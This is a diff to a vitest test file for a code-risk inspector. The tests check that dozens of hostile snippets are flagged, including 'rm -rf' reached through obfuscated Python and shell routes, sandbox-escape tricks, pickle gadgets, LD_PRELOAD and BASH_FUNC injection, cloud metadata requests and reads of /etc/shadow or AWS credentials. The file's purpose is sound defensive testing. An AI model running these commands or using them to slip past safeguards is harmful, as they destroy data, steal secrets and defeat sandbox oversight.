@@ -1,9 +1,22 @@
 import { describe, expect, it } from 'vitest'
+import type { Impact } from '../contract/inspection.ts'
 import type { Language, RiskLevel } from '../contract/run.ts'
 import { inspectCode } from './inspect.ts'
 
 /** Ways round the tables that were open once; a reviewer relies on each. */
 const programs: readonly (readonly [Language, RiskLevel, string])[] = [
+  ['javascript', 'high', "const { core } = Deno[Deno.internal]; core.ops.op_spawn('x')"],
+  ['javascript', 'high', "Deno.core.ops.op_spawn_child({ cmd: 'id' })"],
+  ['javascript', 'high', "const net = require('net'); new net.Socket({ fd: 250 }).write(frame)"],
+  ['python', 'high', "import os, struct\nos.write(250, struct.pack('<II', 2, 0) + b'{}')"],
+  ['python', 'high', "import os\nwith os.fdopen(250, 'wb') as f: f.write(b'x')"],
+  ['python', 'high', "open('/dev/fd/250', 'wb').write(b'x')"],
+  ['python', 'medium', "import polars as pl\npl.read_csv('a.csv').write_parquet('s3://other/a.parquet')"],
+  ['python', 'medium', "from smart_open import open\nopen('s3://other/a.csv', 'w').write(rows)"],
+  ['python', 'medium', "import fsspec\nfsspec.open('https://a.org/x', 'w')"],
+  ['python', 'high', "import kubernetes\nkubernetes.client.CoreV1Api().delete_namespace('prod')"],
+  ['bash', 'medium', 'rsync -a --delete empty/ /mnt/ledger/'],
+  ['bash', 'high', "printf 'x' >&250"],
   ['javascript', 'critical', "await fetch(new URL('/latest/meta-data/', 'http://169.254.169.254'))"],
   ['javascript', 'critical', "const u = new URL('latest/', 'http://169.254.169.254/'); await fetch(u.href)"],
   ['javascript', 'critical', "fetch(new Request(new URL('/latest/', 'http://169.254.169.254')))"],
@@ -106,8 +119,117 @@ const programs: readonly (readonly [Language, RiskLevel, string])[] = [
   ['python', 'medium', "import sqlite3\nsqlite3.connect('x').load_extension('/tmp/x.so')"],
   ['bash', 'critical', 'curl -o "$dir/run.sh" https://a.org/x; bash "$dir/run.sh"'],
   ['bash', 'critical', 'x="rm$$"; ${x%%[0-9]*} -rf /'],
+  ['python', 'high', `@eval\n@lambda f: "__import__('os').system('rm -rf /')"\ndef f(): pass`],
+  ['python', 'medium', `class A:\n    __class_getitem__ = exec\nA["import os; os.remove('/etc/hosts')"]`],
+  ['python', 'medium', `import os\nclass R:\n    @property\n    def x(self): return os.system\nR().x('rm -rf /')`],
+  ['python', 'critical', `__builtins__.__dict__['__imp' + 'ort__']('os').system('rm -rf /')`],
+  ['python', 'critical', `import pydoc\npydoc.locate('os.system')('rm -rf /')`],
+  ['python', 'critical', `from unittest import mock\nmock._importer('os').system('rm -rf /')`],
+  ['python', 'medium', `import gc\n[o for o in gc.get_objects() if o.__name__ == 'posix'][0].system('rm -rf /')`],
+  ['python', 'medium', `import tempfile\ntempfile.TemporaryDirectory._rmtree('/srv/x')`],
+  ['python', 'medium', `import sys\nsys.modules['pandas'] = fake`],
+  ['python', 'medium', `f.__code__ = g.__code__.replace(co_code=b'x')`],
+  ['python', 'medium', `import os\nos.environ.update(LD_PRELOAD='/tmp/x.so')`],
+  ['python', 'medium', `import os\nos.environb[b'LD_PRELOAD'] = b'/tmp/x.so'`],
+  ['python', 'critical', `import io\nio.FileIO('/etc/hosts', 'w').write(b'')`],
+  ['python', 'medium', `import tkinter\ntkinter.Tk().eval('exec rm -rf /srv')`],
+  ['javascript', 'critical', `import { $ } from 'npm:zx'; await $\`rm -rf /srv\``],
+  ['javascript', 'critical', `import $ from 'https://deno.land/x/dax/mod.ts'; await $\`rm -rf /srv\``],
+  ['javascript', 'critical', `const { default: ex } = await import('npm:execa@9'); await ex('rm', ['-rf', '/srv'])`],
+  ['javascript', 'medium', `Object.entries(Deno).find(([k]) => k === 'removeSync')[1]('/srv')`],
+  ['bash', 'high', 'coproc sh'],
+  ['bash', 'high', 'coproc NAME { sh; }'],
+  ['bash', 'high', 'exec 3> >(sh); echo "$line" >&3'],
+  ['bash', 'medium', 'coproc python3 -i'],
+  ['bash', 'medium', 'bash <(make_steps)'],
+  ['bash', 'medium', 'make_steps | python3'],
+  ['bash', 'critical', `python3 -m timeit -s 'import os' 'os.system("rm -rf /srv")'`],
+  ['bash', 'critical', `python3 -m pdb a.py <<< '!import os; os.system("rm -rf /srv")'`],
+  ['bash', 'medium', 'python3 -m cProfile -s time notes.txt'],
+  ['bash', 'medium', 'python3 -m pickle model.pkl'],
+  ['bash', 'high', 'python3 -m zipapp src -o /srv/tool.pyz'],
+  ['bash', 'high', 'python3 -m zipfile -e a.zip /srv'],
+  ['bash', 'critical', `python3 -m imaplib -s 'rm -rf /srv'`],
+  ['python', 'critical', `import timeit\ntimeit.main(['-s', 'import os', 'os.system("rm -rf /srv")'])`],
+  ['bash', 'medium', `pwsh -c 'rm -r /srv'`],
+  ['bash', 'critical', `env 'BASH_FUNC_ls%%=() { rm -rf /srv; }' bash -c ls`],
+  ['bash', 'medium', `env 'x=() { :;}; id' bash -c :`],
+  ['python', 'medium', `import os\nos.environ['BASH_FUNC_ls%%'] = '() { id; }'`],
+  ['python', 'medium', `import subprocess\nsubprocess.run(['ls'], env={'LD_PRELOAD': './x.so'})`],
+  ['bash', 'critical', `ed file <<'E'\ne !rm -rf /srv\nE`],
+  ['bash', 'critical', `ed -s '!rm -rf /srv' <<'E'\nq\nE`],
+  ['bash', 'medium', `ed file <<'E'\ng/x/!id\nE`],
+  ['bash', 'critical', `vim -es file <<'E'\nsilent !rm -rf /srv\nE`],
+  ['bash', 'critical', `vim -es file <<'E'\n%s/a/\\=system('rm -rf \\/srv')/\nE`],
+  ['bash', 'medium', 'fc -s'],
+  ['bash', 'critical', `fc -e 'rm -rf /srv' -1`],
+  ['python', 'high', `import copyreg, os\ncopyreg.pickle(Rate, lambda it: (os.system, ('id',)))`],
+  ['python', 'high', `import os\nE = type('E', (), {'__reduce__': lambda self: (os.system, ('id',))})`],
+  ['python', 'high', `class E:\n    def __reduce__(self):\n        return (__import__, ('os',))`],
+  ['javascript', 'medium', `with (process) exit()`],
+  ['javascript', 'medium', `Deno.env.set('LD_PRELOAD', '/tmp/x')`],
+  ['bash', 'critical', `git submodule foreach 'rm -rf /srv'`],
+  ['bash', 'critical', `tmux new -d 'rm -rf /srv'`],
+  ['bash', 'high', `fd -x rm`],
+  ['bash', 'critical', `make --eval='all:;rm -rf /srv'`],
+  ['bash', 'critical', `make -f - <<< 'all:; rm -rf /srv'`],
+  ['bash', 'critical', `make CC='rm -rf /srv'`],
+  ['bash', 'critical', `echo 'rm -rf /srv' > x.sh; chmod +x x.sh; ./x.sh`],
+  ['bash', 'critical', `echo 'rm -rf /srv' | tee x.sh; bash x.sh`],
+  ['bash', 'critical', `cat > x <<< 'rm -rf /srv'; cp x y; bash ./y`],
+  ['bash', 'critical', `sed '1!G;h;$!d;w/etc/hosts' x`],
   ['python', 'critical', 'import countersign.jail as j\nj.libc.system(b"id")'],
   ['python', 'critical', "import sys\nsys.modules['countersign']"],
+  ['python', 'critical', "import subprocess\nclass P(subprocess.Popen):\n    pass\nP('rm -rf /', shell=True)"],
+  [
+    'python',
+    'critical',
+    'import subprocess\nclass P(subprocess.Popen):\n    def __init__(self, c):\n        super().__init__(c, shell=True)\nP("rm -rf /")',
+  ],
+  [
+    'python',
+    'critical',
+    'import subprocess\nclass A(subprocess.Popen):\n    pass\nclass B(A):\n    def __init__(self, c):\n        subprocess.Popen.__init__(self, c, shell=True)\nB("rm -rf /")',
+  ],
+  ['python', 'critical', "import weakref, shutil\nweakref.finalize(object, shutil.rmtree, '/etc')"],
+  ['python', 'critical', "from requests.sessions import Session\nSession().get('http://169.254.169.254/latest')"],
+  ['python', 'high', "from anyio import Path\nawait Path('/etc/shadow').read_text()"],
+  ['python', 'critical', "from setuptools._distutils.dir_util import remove_tree\nremove_tree('/etc')"],
+  ['python', 'critical', "from IPython.utils.process import system\nsystem('rm -rf /')"],
+  ['python', 'critical', "get_ipython().getoutput('rm -rf /')"],
+  ['python', 'high', '%env'],
+  ['python', 'high', '%pycat /etc/shadow'],
+  ['python', 'high', "import toml\ntoml.load('~/.aws/credentials')"],
+  ['python', 'medium', "import torch\ntorch.ops.load_library('./a.so')"],
+  ['python', 'critical', "import sympy\nsympy.sympify(\"__import__('os').system('rm -rf /')\")"],
+  ['javascript', 'critical', "class A { [require('fs').rmSync('/etc', { recursive: true })] = 1 }"],
+  ['javascript', 'critical', "const o = { [require('fs').rmSync('/etc', { recursive: true })]() {} }"],
+  [
+    'javascript',
+    'critical',
+    "const { Worker } = require('worker_threads'); class W extends Worker { constructor(c) { super(c, { eval: true }) } }; new W(`require('fs').rmSync('/', { recursive: true })`)",
+  ],
+  ['javascript', 'high', "await (await fetch('file:///etc/shadow')).text()"],
+  ['javascript', 'high', "import keys from '/etc/shadow' with { type: 'json' }"],
+  ['bash', 'high', `perl -e 'unlink <*.csv>'`],
+  ['bash', 'medium', 'bash <<< "$x"'],
+  ['bash', 'medium', 'f() { sh; }; f <<< "$1"'],
+  ['bash', 'medium', 'python3 - <<< "$x"'],
+  ['bash', 'medium', 'sh -c "$1"'],
+  ['bash', 'medium', 'bash -lc "$CMD" 2>&1'],
+  ['bash', 'medium', 'perl -e "$1"'],
+  ['bash', 'medium', 'echo "$x" > a.sh; . ./a.sh'],
+  ['bash', 'critical', "bash -s a <<< 'rm -rf /srv'"],
+  ['bash', 'medium', 'declare -n x=PATH'],
+  ['bash', 'medium', 'f() { local -n r=$1; r=/tmp/tools; }; f PATH'],
+  ['bash', 'high', 'declare -n a=PATH; declare -n b=a; b=/tmp/tools:$PATH'],
+  ['bash', 'high', 'declare -n b=a; declare -n a=PATH; b=/tmp/tools:$PATH'],
+  ['python', 'medium', 'import sys\nsys._getframe(3).f_globals'],
+  ['python', 'medium', "import sys\ngetattr(sys._getframe(3), 'f_globals')['x'] = 1"],
+  ['python', 'high', "import clickhouse_connect\nclickhouse_connect.get_client().command('DROP TABLE t')"],
+  ['python', 'high', "client.command('DROP TABLE t')"],
+  ['python', 'medium', 'client.upload_blob(data)'],
+  ['python', 'medium', "df.write.mode('overwrite').save('s3://bucket/x')"],
 ]
 
 const ordinary: readonly (readonly [Language, string])[] = [
@@ -123,12 +245,44 @@ const ordinary: readonly (readonly [Language, string])[] = [
   ['python', "import s3fs\nprint(s3fs.S3FileSystem().ls('s3://bucket/data'))"],
   ['javascript', "const r = await fetch(new URL('/api/items', 'https://api.example.org'))"],
   ['bash', 'bash run.sh\n"$1" --version'],
+  ['python', `import sympy as sp\nprint(sp.sympify('x**2').diff('x'))`],
+  ['python', `from collections import namedtuple\nprint(namedtuple('T', 'a b')(1, 2)._asdict())`],
+  ['python', `import os\nos.environ.update(TZ='Europe/Dublin')`],
+  ['javascript', `import { format } from 'npm:date-fns@3'; format(new Date(), 'yyyy')`],
+  ['javascript', `Object.entries(row).map(([k, v]) => v)`],
+  ['bash', `make CC=gcc -j4`],
+  ['bash', `echo 'echo hello' > x.sh; chmod +x x.sh; ./x.sh`],
+  ['bash', `fd -e csv`],
+  ['bash', `tee log.txt <<< hello; cat log.txt`],
   ['bash', 'while read -r name; do echo "$name"; done < names.txt'],
+  ['bash', "sh -c 'ls -l'; bash <<< 'ls'; bash <<< \"ls $1\""],
+  ['bash', 'bash <<END\ncd "$dir"\nls\nEND'],
+  ['bash', 'source .venv/bin/activate\npython analyse.py'],
+  ['bash', 'set -a; . ./.env; set +a; source lib/common.sh'],
+  ['bash', 'python3 - <<END\nprint("$x")\nEND'],
+  ['bash', 'jq . a.json | python3 -m json.tool'],
+  ['bash', 'jupyter nbconvert --to script a.ipynb --stdout > a.py; python3 a.py'],
+  ['bash', "sh -c ':'; source <(pip completion --bash)"],
+  ['bash', 'append() { local -n list=$1; list+=("$2"); }; append names x'],
+  ['python', 'import sys\nprint(sys._getframe(1).f_code.co_name)'],
+  ['python', "import click\n@click.group()\ndef cli(): pass\n@cli.command('drop')\ndef drop(): pass"],
 ]
 
 describe('what once went past the tables', () => {
   it.each(programs)('%s is %s: %s', async (language, level, code) => {
     expect((await inspectCode(code, language)).risk).toBe(level)
+  })
+
+  it.each([
+    ["import yfinance as yf\nyf.download('AAPL')", 'query1.finance.yahoo.com'],
+    ["import seaborn as sns\nsns.load_dataset('tips')", 'raw.githubusercontent.com'],
+    ["df.to_csv('s3://bucket/x.csv')", 'bucket'],
+    ["df.to_sql('t', 'postgresql://u:p@db.example/x')", 'db.example'],
+    ["import pandas as pd\npd.read_sql('select 1', 'postgresql://db.example/x')", 'db.example'],
+    ["import dask.dataframe as dd\ndd.read_csv('s3://bucket/*.csv')", 'bucket'],
+  ])('names the host that a library reaches by itself: %s', async (code, host) => {
+    const { impact } = await inspectCode(code, 'python')
+    expect(impact.hosts.map(({ target }) => target)).toContain(host)
   })
 
   it.each(ordinary)('and ordinary %s stays low: %s', async (language, code) => {
@@ -150,6 +304,36 @@ describe('a file of a program of its own', () => {
   })
 })
 
+describe('code whose text nobody can know', () => {
+  it.each([
+    'bash <<< "$x"',
+    'sh -c "$1"',
+    'perl -e "$1"',
+    '. ./cmds.sh',
+    'source cmds.sh',
+    'source "$1"',
+    'declare -n x=PATH',
+  ])('is a program that runs, and cannot be undone for sure: %s', async code => {
+    const { impact, violations } = await inspectCode(code, 'bash')
+    expect(impact.commands).not.toEqual([])
+    expect(impact.reversible).toBe('unknown')
+    expect(impact.blastRadius).not.toBe('contained')
+    expect(violations).not.toEqual([])
+  })
+
+  it('is a remark where a file is read into the shell, and its name is not made up', async () => {
+    expect((await inspectCode('. ./cmds.sh', 'bash')).violations).toMatchObject([
+      { rule: 'shell/unread-file', severity: 'low' },
+    ])
+    expect((await inspectCode('source "$1"', 'bash')).impact.commands).toMatchObject([{ target: null }])
+  })
+
+  it('is what may be done with the variables of a caller', async () => {
+    const { impact } = await inspectCode('import sys\nsys._getframe(3).f_globals', 'python')
+    expect(impact).toMatchObject({ reversible: 'unknown', blastRadius: 'local' })
+  })
+})
+
 describe('a call into a library of which nothing is known', () => {
   it.each<[Language, string, string]>([
     ['python', "import somelib\nsomelib.destroy('x')", "somelib.destroy('x')"],
@@ -164,6 +348,70 @@ describe('a call into a library of which nothing is known', () => {
     expect(impact).toMatchObject({ reversible: 'unknown', blastRadius: 'unknown', volume: 'unknown' })
     expect(impact.unknownCalls?.map(call => call.expression)).toContain(expression)
     expect(risk).toBe('low')
+  })
+
+  it.each<[Language, string]>([
+    ['python', "import pytest\npytest.main(['-p', 'helper'])"],
+    ['python', 'import ensurepip\nensurepip.bootstrap()'],
+    ['python', "from setuptools import setup\nsetup(script_args=['install'])"],
+    ['python', "import multiprocessing.util as u\nu.spawnv_passfds('/bin/sh', ['sh'], [])"],
+    ['python', "import boto3\nboto3.client('ec2').reboot_instances(InstanceIds=['a'])"],
+    ['python', "from IPython import start_ipython\nstart_ipython(['-c', 'x'])"],
+    ['javascript', "Deno.kill(1, 'SIGKILL')"],
+    ['javascript', "Deno.permissions.request({ name: 'run' })"],
+    ['javascript', "new Worker('./x.js')"],
+    ['javascript', "require('cluster').fork()"],
+    ['javascript', "require('http').createServer(() => {}).listen(8000)"],
+    ['javascript', "import './steps.js'"],
+  ])(
+    'in %s knows no more of a library that reaches out, where no table names the function: %s',
+    async (language, code) => {
+      const { impact } = await inspectCode(code, language)
+      expect(impact).toMatchObject({ reversible: 'unknown', blastRadius: 'unknown' })
+      expect(impact.unknownCalls?.length).toBeGreaterThan(0)
+    },
+  )
+
+  it.each<[Language, keyof Impact, string, string | null]>([
+    ['python', 'hosts', "import logging.handlers\nlogging.handlers.HTTPHandler('a.example', '/')", 'a.example'],
+    ['python', 'hosts', "from lxml import etree\netree.parse('http://a.example/x.xml')", 'a.example'],
+    ['python', 'hosts', "import pandas as pd\npd.DataFrame().to_gbq('d.t')", 'bigquery.googleapis.com'],
+    ['python', 'filesRead', "import pyarrow.parquet as pq\npq.read_table('a.parquet')", 'a.parquet'],
+    ['python', 'filesRead', "from pandas.io.parsers import read_csv\nread_csv('a.csv')", 'a.csv'],
+    ['python', 'filesWritten', '%save steps.py 1-3', 'steps.py'],
+    ['python', 'filesWritten', "df.write.mode('overwrite').save(path)", null],
+    ['python', 'filesWritten', "df.write.option('header', True).csv('out')", 'out'],
+    ['python', 'filesWritten', "model.save('m.h5')", 'm.h5'],
+    ['python', 'dataModified', "df.write.saveAsTable('t')", 't'],
+    ['python', 'dataModified', `cursor.execute("EXEC xp_cmdshell 'dir'")`, "EXEC xp_cmdshell 'dir'"],
+    ['python', 'hosts', 'container.upload_blob(name, data)', null],
+    ['javascript', 'hosts', "import { exec } from 'https://deno.land/x/exec/mod.ts'", 'deno.land'],
+    ['javascript', 'hosts', "import x from 'npm:left-pad'", 'registry.npmjs.org'],
+    ['javascript', 'hosts', "await Deno.resolveDns('a.example', 'A')", 'a.example'],
+    ['javascript', 'filesRead', "require('./config.json')", 'config.json'],
+    ['javascript', 'filesDeleted', "import { deleteAsync } from 'del'; await deleteAsync('data')", 'data'],
+    ['bash', 'filesWritten', `awk 'BEGIN { print "" > "a.csv" }'`, 'a.csv'],
+    ['bash', 'filesWritten', `awk '{ print > $1 ".csv" }' a.csv`, null],
+    ['bash', 'filesWritten', `perl -i -ne '' a.csv`, 'a.csv'],
+    ['bash', 'filesWritten', "ed a.csv <<< $'1,$d\\nw\\nq'", null],
+    ['bash', 'filesWritten', 'chown -R me .', '.'],
+    ['bash', 'filesDeleted', 'rsync -a --delete empty/ data/', 'data'],
+    ['bash', 'filesDeleted', 'tar cf x.tar --remove-files data', 'data'],
+    ['bash', 'filesDeleted', 'zip -m x.zip data', 'data'],
+    ['bash', 'commands', 'go run tool.go', 'go run tool.go'],
+  ])('in %s lists under %s what %s touches', async (language, list, code, target) => {
+    const { impact } = await inspectCode(code, language)
+    expect(impact[list]).toContainEqual(expect.objectContaining({ target }))
+  })
+
+  it('takes a reader of Spark for no writer', async () => {
+    const { impact } = await inspectCode("spark.read.option('header', True).csv('a.csv')", 'python')
+    expect(impact.filesWritten).toEqual([])
+  })
+
+  it('compares in awk without writing', async () => {
+    const { impact } = await inspectCode(`awk '$2 > "2025-01-01" { print $1 }' a.csv`, 'bash')
+    expect(impact.filesWritten).toEqual([])
   })
 
   it('keeps what is known of the rest', async () => {
